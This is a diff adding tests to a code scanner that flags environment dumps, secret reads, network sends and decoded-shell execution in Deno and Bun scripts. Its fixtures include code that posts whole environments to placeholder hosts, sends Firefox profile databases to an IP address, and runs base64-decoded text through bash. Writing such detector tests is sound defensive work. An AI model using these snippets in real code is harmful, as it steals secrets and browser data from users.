@@ -513,3 +513,88 @@ def test_a_bundled_json_read_then_parsed_gives_its_entries(tmp_path: Path) -> No
     )
     errors = scan_errors(tmp_path, {"conf/keys.json": listing, "scripts/keys.js": source})
     assert {rule for rule, path, _ in errors if path == "scripts/keys.js"} == {"CREDENTIAL_EXFILTRATION"}
+
+
+def test_deno_environment_as_an_object_posted_is_an_environment_dump_sent(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'const sink = new URL("https://telemetry.example.invalid/v2/hello");\n'
+        "const snapshot = { at: Date.now(), vars: Deno.env.toObject() };\n"
+        'await fetch(sink.href, { method: "PUT", body: JSON.stringify(snapshot) });\n',
+        name="tools/hello.ts",
+    )
+    assert Kind.ENV_DUMP in {c.kind for c in found}
+    assert Kind.EGRESS in {c.kind for c in found}
+
+
+def test_bun_env_iterated_and_sent_is_an_environment_dump_sent(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const keys = Object.keys(Bun.env).filter((k) => k.endsWith('_PAT'));\n"
+        "const picked = Object.values(Bun.env);\n"
+        "await fetch('https://stats.example.invalid/u', { method: 'POST', body: picked.join(';') });\n",
+        name="bin/stats.ts",
+    )
+    assert Kind.ENV_DUMP in {c.kind for c in found}
+
+
+def test_one_named_deno_variable_read_for_a_request_is_no_dump(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'const base = Deno.env.get("API_BASE") ?? "https://api.example.invalid";\n'
+        "const port = Bun.env.PORT;\n"
+        'const r = await fetch(base + "/health");\n'
+        "console.log(r.status, port);\n",
+        name="bin/health.ts",
+    )
+    assert Kind.ENV_DUMP not in {c.kind for c in found}
+
+
+def test_deno_std_walk_of_a_browser_profile_reads_it(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'import { walk } from "https://deno.land/std@0.220.0/fs/walk.ts";\n'
+        'import * as path from "jsr:@std/path@^1.0";\n'
+        'const home = Deno.env.get("HOME")!;\n'
+        'const base = path.join(home, "Library/Application Support/Firefox/Profiles");\n'
+        "const blobs = [];\n"
+        "for await (const f of walk(base, { exts: ['.sqlite'] })) blobs.push(await Deno.readFile(f.path));\n"
+        "await fetch('https://198.51.100.4/c', { method: 'POST', body: new Blob(blobs) });\n",
+        name="src/inventory.ts",
+    )
+    assert (Kind.SECRET_READ, "Firefox profile") in summary(found)
+    assert Kind.EGRESS in {c.kind for c in found}
+
+
+def test_deno_std_walk_of_the_project_and_a_text_read_are_not_secret_reads(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'import { walk } from "jsr:@std/fs@1";\n'
+        'import { join } from "jsr:@std/path@1";\n'
+        'for await (const e of walk(join(Deno.cwd(), "docs"), { exts: [".md"] })) {\n'
+        "  const text = await Deno.readTextFile(e.path);\n"
+        "  console.log(e.path, text.length);\n"
+        "}\n",
+        name="src/count.ts",
+    )
+    assert Kind.SECRET_READ not in {c.kind for c in found}
+
+
+def test_deno_command_given_decoded_code_for_a_shell_runs_it(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'const step = atob("ZWNobyBoZWxsbyAmJiBpZA==");\n'
+        'await new Deno.Command("bash", { args: ["-c", step], stdout: "null" }).output();\n',
+        name="scripts/step.ts",
+    )
+    assert Kind.EXEC_DECODED in {c.kind for c in found}
+
+
+def test_deno_command_running_git_is_no_finding(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'const out = await new Deno.Command("git", { args: ["log", "--oneline", "-5"] }).output();\n'
+        "console.log(new TextDecoder().decode(out.stdout));\n",
+        name="scripts/log.ts",
+    )
+    assert not {c.kind for c in found} & {Kind.EXEC_DECODED, Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC}
